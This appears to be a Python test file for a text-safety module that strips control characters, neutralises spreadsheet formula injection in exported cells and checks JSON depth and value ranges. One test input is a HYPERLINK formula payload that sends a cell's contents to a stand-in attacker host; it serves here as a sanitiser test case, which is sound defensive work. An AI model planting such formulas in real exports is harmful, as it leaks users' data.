"""The input and export rules of slatrack.textsafety."""

from __future__ import annotations

import re
from datetime import UTC, date, datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from slatrack import textsafety as ts


@pytest.mark.parametrize("text", ["web\x0bform", "a\x00b", "\x1b[31m", "x\x7f", "\x85", "\ud800", "\uffff"])
def test_refused_characters(text: str) -> None:
    assert ts.has_forbidden(text)
    assert not ts.has_forbidden(ts.strip_forbidden(text))


@pytest.mark.parametrize("text", ["第一行\n第二行", "a\tb", "windows\r\n", "😀 emoji", "=1套", ""])
def test_allowed_text(text: str) -> None:
    assert not ts.has_forbidden(text)


def test_the_schema_pattern_says_the_same_as_the_check_for_every_bmp_character() -> None:
    pattern = re.compile(ts.SAFE_TEXT_PATTERN)
    for code in range(0x10000):
        if 0xD800 <= code <= 0xDFFF:
            continue  # no JSON text in UTF-8 carries a lone surrogate; the check refuses it anyway
        char = chr(code)
        assert (pattern.match(char) is None) == ts.has_forbidden(char), hex(code)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        ("+1", "'+1"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("=1套", "'=1套"),
        ("web\x0bform", "webform"),
        ("\x0b=1", "'=1"),  # stripped first, then quoted
        ("普通文字", "普通文字"),
        ("", ""),
    ],
)
def test_safe_text(value: str, expected: str) -> None:
    assert ts.safe_text(value) == expected


@pytest.mark.parametrize("value", [-5, 0, 2.5, None, True, date(2025, 1, 1)])
def test_non_text_cells_are_left_alone(value: object) -> None:
    assert ts.safe_cell(value) is value


@given(st.text())
def test_safe_text_never_starts_a_formula_nor_holds_xml_illegal_characters(text: str) -> None:
    out = ts.safe_text(text)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert ts.xml_safe(out) == out


def test_json_depth_skips_strings() -> None:
    assert ts.json_depth("[" * 100_000) == 100_000
    assert ts.json_depth('{"a": [1, {"b": "[[[[[[\\"]]]]"}]}') == 3
    assert ts.json_depth("42") == 0


def test_forbidden_in_names_the_path() -> None:
    assert ts.forbidden_in({"a": [1, {"title": "x\x0by"}]}) == ("a.1.title", "x\x0by")
    assert ts.forbidden_in(["ok", "\ud800"]) == ("1", "\ud800")
    assert ts.forbidden_in({"ok": ["fine", 3]}) is None


def test_ranges() -> None:
    assert ts.in_id_range(2**31 - 1) and not ts.in_id_range(2**31) and not ts.in_id_range(9223372036854775808)
    assert ts.date_in_range(date(2025, 7, 1)) and not ts.date_in_range(date(1, 1, 1))
    assert not ts.date_in_range(date(9999, 12, 31))
    assert not ts.moment_in_range(datetime(1, 1, 1, tzinfo=UTC))
    assert not ts.moment_in_range(datetime(9999, 12, 31, 23, 59, tzinfo=timezone(timedelta(hours=-12))))
    assert ts.moment_in_range(datetime(2025, 6, 30, 12, tzinfo=timezone(timedelta(hours=8))))


def test_clean_cells_reports_each_changed_cell() -> None:
    row = {"标题": "web\x0bform", "描述": "ok", "单位": 522701}
    assert ts.clean_cells(row) == [("标题", "U+000B")]
    assert row == {"标题": "webform", "描述": "ok", "单位": 522701}
